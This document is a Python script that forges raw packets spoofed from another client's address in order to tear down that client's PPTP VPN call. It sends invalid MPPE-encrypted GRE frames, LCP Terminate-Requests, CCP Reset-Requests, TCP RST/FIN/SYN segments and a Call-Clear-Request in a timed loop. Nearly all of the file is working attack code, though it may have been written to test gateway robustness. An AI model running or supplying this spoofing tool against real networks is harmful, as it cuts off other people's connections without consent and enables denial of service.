# SPDX-License-Identifier: GPL-2.0-or-later
"""Sends what may end another client's PPTP call, with that client's address, for a while.

usage: forged_pptp.py KIND TARGET CLIENT PORT CALL SECONDS

KIND: all, or stock: without GRE that has a number. Stock pptpd takes any that is higher.

The client has its control connection from PORT, and CALL is the gateway's id of its call. Nothing
else is known here: each number is random. In each round GRE with MPPE that cannot be opened, LCP
Terminate-Request, CCP Reset-Request, an acknowledgement alone; RST, FIN and SYN of the connection,
and Call-Clear-Request. Prints how many packets were sent, as JSON.
"""
from __future__ import annotations

import json
import random
import socket
import struct
import sys
import time

TCP, GRE = socket.IPPROTO_TCP, socket.IPPROTO_GRE
PPTP_PORT = 1723
FIN, SYN, RST, PUSH, ACK = 1, 2, 4, 8, 16
TTL = 64
PAUSE_S = 0.01
CALL_CLEAR = struct.pack("!HHIHHHH", 16, 1, 0x1A2B3C4D, 12, 0, 7, 0)
FRAMES = (b"\xff\x03\x00\xfd\x91\x23" + bytes(range(60)),
          b"\xff\x03\xc0\x21" + struct.pack("!BBH", 5, 1, 4),
          b"\xff\x03\x80\xfd" + struct.pack("!BBH", 14, 1, 4))


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data + b"\0" * (len(data) % 2)))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def number() -> int:
    return random.getrandbits(32)


def far() -> int:
    """Not near the numbers of a call that is minutes old."""
    return random.randrange(1 << 24, 1 << 31)


def gre(call: int, frame: bytes) -> bytes:
    """RFC 2637 4.1: a number, and an acknowledgement."""
    return struct.pack("!HHHHII", 0x3081, 0x880B, len(frame), call, far(), far()) + frame


def acknowledgement(call: int) -> bytes:
    return struct.pack("!HHHHI", 0x2081, 0x880B, 0, call, far())


def tcp(source: bytes, target: bytes, port: int, flags: int, payload: bytes = b"") -> bytes:
    fields = (port, PPTP_PORT, number(), number() if flags & ACK else 0, 5 << 4, flags, 512)
    head = struct.pack("!HHIIBBHHH", *fields, 0, 0)
    pseudo = source + target + struct.pack("!HH", TCP, len(head) + len(payload))
    return struct.pack("!HHIIBBHHH", *fields, checksum(pseudo + head + payload), 0) + payload


def packets(source: bytes, target: bytes, port: int, call: int,
            numbered: bool = True) -> list[bytes]:
    """One of each kind."""
    bodies = [(GRE, gre(call, frame)) for frame in FRAMES if numbered]
    bodies.append((GRE, acknowledgement(call)))
    bodies += [(TCP, tcp(source, target, port, flags))
               for flags in (RST, RST | ACK, FIN | ACK, SYN)]
    bodies.append((TCP, tcp(source, target, port, PUSH | ACK, CALL_CLEAR)))
    # The kernel fills in the checksum of the header.
    return [struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 0, 0, TTL, protocol, 0, source,
                        target) + body for protocol, body in bodies]


def main() -> None:
    kind, vip, client = sys.argv[1:4]
    target, source = socket.inet_aton(vip), socket.inet_aton(client)
    port, call, seconds = int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6])
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    until, sent = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        for packet in packets(source, target, port, call, kind == "all"):
            sender.sendto(packet, (vip, 0))
            sent += 1
        time.sleep(PAUSE_S)
    print(json.dumps({"packets": sent}))


if __name__ == "__main__":
    main()
